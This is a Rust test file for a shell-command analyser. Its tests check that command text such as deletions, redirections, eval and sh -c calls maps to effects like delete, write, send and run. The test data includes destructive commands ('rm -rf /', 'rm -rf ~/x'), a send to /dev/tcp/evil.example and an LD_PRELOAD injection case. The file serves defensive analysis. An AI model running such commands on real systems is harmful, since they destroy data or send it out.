//! Texts and what they would do, in the notation of clauses.

mod world;
mod wrapped;

use self::world::WORLD;
use super::evaluate;
use crate::effects::Evaluation;
use crate::model::effect::Certainty;
use crate::model::pattern::Pattern;

fn of(text: &str) -> Evaluation {
    evaluate(text.as_bytes(), &Pattern::text("/r"), &WORLD)
}

/// Effects one by one, `?` before what may happen, `??` before what is unknown, then what could not
/// be read behind `!`.
fn shown(text: &str) -> String {
    let evaluation = of(text);
    let effects = evaluation.effects.iter().map(|effect| {
        let sign = match effect.certainty {
            Certainty::Did | Certainty::Will => "",
            Certainty::May => "?",
            Certainty::Unknown => "??",
        };
        format!("{sign}{}", effect.clause)
    });
    let unread = evaluation.unread.iter().map(|unread| format!("!{}", unread.cause));
    effects.chain(unread).collect::<Vec<_>>().join("; ")
}

fn check(table: &[(&str, &str)]) {
    let wrong: Vec<String> = table
        .iter()
        .filter(|(text, wanted)| shown(text) != *wanted)
        .map(|(text, wanted)| format!("\n{text}\n  wanted {wanted}\n  found  {}", shown(text)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.concat());
}

#[test]
fn words_come_out_as_the_shell_makes_them() {
    check(&[
        ("rm a", "delete path:/r/a"),
        ("rm 'a b' \"c\"d", "delete path:/r/a b; delete path:/r/cd"),
        ("r''m a", "delete path:/r/a"),
        (r"\rm a", "delete path:/r/a"),
        ("command rm a", "delete path:/r/a"),
        ("/bin/rm a", "delete path:/r/a"),
        ("{rm,-rf,x}", "delete path:/r/x/**"),
        ("x=rm; $x a", "delete path:/r/a"),
        ("x='rm a b'; $x", "delete path:/r/a; delete path:/r/b"),
        ("rm -rf ~/x", "delete path:/home/u/x/**"),
        ("rm ../x /a/./b", "delete path:/x; delete path:/a/b"),
        ("rm f{1..3}", "delete path:/r/f1; delete path:/r/f2; delete path:/r/f3"),
        (
            "rm {a,b}/{c,d}",
            "delete path:/r/a/c; delete path:/r/a/d; delete path:/r/b/c; delete path:/r/b/d",
        ),
        ("rm src/*.rs", "delete path:/r/src/a.rs; delete path:/r/src/b.rs"),
        ("rm out/*.o", "delete path:/r/out/*.o"),
        (
            "touch src/c.rs; cat src/*.rs",
            "write path:/r/src/c.rs; read path:/r/src/a.rs; read path:/r/src/b.rs; \
             read path:/r/src/c.rs",
        ),
        (
            "tee src/$N < /dev/null; rm src/*.rs",
            "write path:/r/src/${N:-}; discard path:/r/src/${N:-}; delete path:/r/src/*.rs",
        ),
        ("rm 'src/*.rs'", r"delete path:/r/src/\*.rs"),
        ("rm $'\\x61'", "delete path:/r/a"),
        ("cat <<EOF\nrm -rf /\nEOF", ""),
        ("echo 'rm -rf /'", ""),
    ]);
}

#[test]
fn variables_are_sets_of_values_or_holes() {
    check(&[
        ("X=a; rm $X", "delete path:/r/a"),
        ("rm -rf \"$X\"/y", "delete path:${X:-}/y/**"),
        ("rm -rf \"${X:-build}\"/y", "?delete path:${X}/y/**; ?delete path:/r/build/y/**"),
        ("rm -rf \"${X:?}\"/y", "delete path:${X}/y/**"),
        (
            "X=a/b.c; rm ${X%.c} ${X##*/} ${X/b/d}",
            "delete path:/r/a/b; delete path:/r/b.c; delete path:/r/a/d.c",
        ),
        ("rm -rf \"${TMPDIR:-/tmp}/x\"", "delete path:/tmp/x/**"),
        (
            "if c; then X=a; else X=b; fi; rm $X",
            "??run program:c; ?delete path:/r/b; ?delete path:/r/a",
        ),
        ("rm $(echo a)", "delete path:/r/a"),
        ("rm \"$(pwd)/a\"", "delete path:/r/a"),
        ("set -- a b; rm \"$@\"", "delete path:/r/a; delete path:/r/b"),
        ("a=(x y); rm \"${a[@]}\"", "delete path:/r/x; delete path:/r/y"),
        ("rm /$1", "delete path:/"),
        ("IFS=:; x=a:b; rm $x", "delete path:/r/a; delete path:/r/b"),
        ("sh -c 'rm \"$1\"' name a", "delete path:/r/a"),
        ("sh -c 'rm \"/$1\"'", "delete path:/"),
    ]);
}

#[test]
fn redirections_are_effects() {
    check(&[
        ("echo a > f", "write path:/r/f; discard path:/r/f"),
        ("echo a >> f", "write path:/r/f"),
        ("rm a 2>/dev/null >&2", "delete path:/r/a"),
        ("cat > f <<EOF\nx\nEOF", "write path:/r/f; discard path:/r/f"),
        (": > a > b", "write path:/r/a; discard path:/r/a; write path:/r/b; discard path:/r/b"),
        ("{ echo a; } &> f", "write path:/r/f; discard path:/r/f"),
        ("echo x > /dev/tcp/evil.example/80", "send host:evil.example"),
        ("read x < f", "read path:/r/f"),
    ]);
}

#[test]
fn the_folder_is_followed() {
    check(&[
        ("cd src && rm a", "delete path:/r/src/a"),
        ("cd src; rm a", "delete path:/r/src/a"),
        ("cd gone; rm a", "?delete path:/r/gone/a; ?delete path:/r/a"),
        ("cd gone && rm a", "delete path:/r/gone/a"),
        ("cd gone || exit 1; rm a", "delete path:/r/gone/a"),
        ("set -e; cd gone; rm a", "delete path:/r/gone/a"),
        ("(cd src && rm a); rm b", "delete path:/r/src/a; delete path:/r/b"),
        ("pushd src; rm a; popd; rm b", "delete path:/r/src/a; delete path:/r/b"),
        ("cd \"$D\" && rm a", "delete path:${D:-}/a"),
        ("cd - && rm a", "delete path:${OLDPWD}/a"),
        ("mkdir -p new; cd new; rm a", "write path:/r/new; delete path:/r/new/a"),
        ("if cd gone; then :; fi; rm a", "?delete path:/r/gone/a; ?delete path:/r/a"),
        ("set -e; if cd gone; then :; fi; rm a", "?delete path:/r/gone/a; ?delete path:/r/a"),
    ]);
}

#[test]
fn every_branch_counts() {
    check(&[
        ("false && rm a", "delete path:/r/a"),
        ("true || rm a", "?delete path:/r/a"),
        ("if false; then rm a; fi", "?delete path:/r/a"),
        ("case $x in a) rm a;; *) rm b;; esac", "?delete path:/r/a; ?delete path:/r/b"),
        ("while true; do rm a; done", "?delete path:/r/a"),
        ("for f in a b; do rm $f; done", "delete path:/r/a; delete path:/r/b"),
        ("for f in out/*; do rm $f; done", "?delete path:/r/out/*"),
        ("f() { rm \"$1\"; }; f a", "delete path:/r/a"),
        ("exit 0; rm a", "?delete path:/r/a"),
        ("rm a & rm b", "delete path:/r/a; delete path:/r/b"),
        ("trap 'rm -f \"$t\"' EXIT; t=a", "?delete path:/r/a"),
        ("f() { f; }; f", "!commands that run commands, too deeply"),
    ]);
}

#[test]
fn text_that_is_run_is_read() {
    check(&[
        ("eval 'rm a'", "delete path:/r/a"),
        ("eval \"$X\"", "??run program:eval; !text for eval: X"),
        ("./ok.sh", "delete path:/r/build/**"),
        ("source lib.sh; clean", "delete path:/r/dist/**"),
        ("./args.sh a", "delete path:/r/a"),
        (
            "echo 'rm a' > x.sh; ./x.sh",
            "write path:/r/x.sh; discard path:/r/x.sh; delete path:/r/a",
        ),
        ("./tool.py", "??run program:/r/tool.py"),
        ("alias x='rm a'; x", "?delete path:/r/a; ??run program:x"),
        ("$CMD a", "??run program:${CMD:-}; ??run program:a; !the name of a command is `${CMD:-}`"),
        ("rm $(rm a)", "delete path:/r/a; delete path:${output of rm:-}/**"),
        (
            "if c; then echo 'rm a' > x.sh; fi; bash x.sh",
            "??run program:c; ?write path:/r/x.sh; ?discard path:/r/x.sh; ?delete path:/r/a; \
             ??run program:/r/x.sh",
        ),
        (
            "echo rm > x.sh; echo 'rm a' >> x.sh; bash x.sh",
            "write path:/r/x.sh; discard path:/r/x.sh; delete path:/r/a",
        ),
        ("bash -c \"rm -rf /tmp/x.$$\"", "delete path:/tmp/x.*/**"),
        (
            "bash -c \"cd src && rm $X/a\"",
            "?delete path:${X:-}/a/**; ??run program:sh; !text for sh: X",
        ),
        ("cd src; ../scripts/up.sh", "delete path:/r/a"),
        ("declare -n r=x; x=a; rm \"$r\"", "delete path:${r:-}/**"),
        ("bash gone.sh", "??run program:/r/gone.sh"),
        ("BASH_ENV=ok.sh bash -c :", "delete path:/r/build/**"),
        ("LD_PRELOAD=./x.so rm a", "??run program:./x.so; delete path:/r/a; !code in LD_PRELOAD"),
        ("PATH=.:$PATH ok.sh", "delete path:/r/build/**"),
        ("rm 'a", "??run program:sh; !unbalanced quote"),
    ]);
}

#[test]
fn effects_point_at_their_command() {
    let text = "echo a; rm b && sh -c 'rm c'";
    let found: Vec<_> = of(text)
        .effects
        .iter()
        .map(|effect| String::from_utf8_lossy(effect.span.of(text.as_bytes())).into_owned())
        .collect();
    assert_eq!(found, ["rm b", "sh -c 'rm c'"]);
}

#[test]
fn bounds_are_told() {
    let loops = "for a in {1..60}; do for b in {1..60}; do rm $a$b; done; done; ";
    for text in [
        "true; ".repeat(20_000),
        "rm a; ".repeat(12_000),
        "f() { f; f; }; f".to_owned(),
        "eval ".repeat(300) + "rm a",
        "echo {1..200} ".repeat(1_000),
        loops.repeat(3),
        (0..8_000).map(|at| format!("v{at}=1; ")).collect::<String>() + &"(:); ".repeat(4_000),
        (0..5_000).map(|at| format!(": > f{at}; ")).collect(),
    ] {
        let found = of(&text);
        let shown = text.get(..20).unwrap_or(&text);
        assert!(found.unread.iter().any(|unread| unread.bound), "{shown}");
    }
}

#[test]
fn values_that_double_stay_small() {
    let text = format!("x=aaaaaaaa; {} rm \"$x\"", "x=$x$x; ".repeat(500));
    assert_eq!(shown(&text), "delete path:${too long}/**");
}

/// Fragments that texts are put together from.
const FRAGMENTS: &[&str] = &[
    "rm ",
    "a ",
    "-rf ",
    "$x",
    "\"$x\"",
    "${x:-b}",
    "${x%.*}",
    "$(",
    ")",
    "`",
    "\"",
    "'",
    "{",
    "}",
    "(",
    ";",
    "|",
    "&&",
    "||",
    "&",
    "<",
    ">",
    ">>",
    "<<E\n",
    "\nE\n",
    "\n",
    "*",
    "if ",
    "then ",
    "else ",
    "fi ",
    "for x in ",
    "do ",
    "done ",
    "while ",
    "case ",
    " in ",
    "esac ",
    "f() ",
    "f ",
    "eval ",
    "sh -c ",
    "trap ",
    "cd ",
    "~",
    "x=",
    "$((1+",
    "))",
    "<(",
    "{a,b}",
    "{1..3}",
    "set -- ",
    "\"$@\"",
    "shift ",
    "read x ",
    "local ",
    "xargs ",
    "git push ",
    "\\",
    "[[ ",
    " ]]",
    "echo ",
];

proptest::proptest! {
    #[test]
    fn any_text_has_an_end_and_well_made_effects(
        picks in proptest::collection::vec(0..FRAGMENTS.len(), 0..24)
    ) {
        let text: String = picks.iter().map(|at| FRAGMENTS[*at]).collect();
        for effect in of(&text).effects {
            let resource = &effect.clause.resource;
            assert!(resource.kind.verbs().contains(&effect.clause.verb), "{}", effect.clause);
            assert_eq!(effect.clause.owner, None, "{}", effect.clause);
        }
    }
}
